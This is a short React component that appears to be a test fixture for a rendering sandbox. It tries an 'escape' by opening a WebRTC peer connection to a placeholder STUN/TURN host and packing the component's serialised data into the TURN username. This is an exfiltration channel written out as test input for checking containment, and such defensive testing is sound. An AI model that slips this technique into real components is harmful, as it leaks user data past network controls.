import { useEffect } from "react";

// Escape attempt: webrtc_stun_udp — STUN over UDP from the component's own realm
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_stun_udp-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_stun_udp</p>;
}
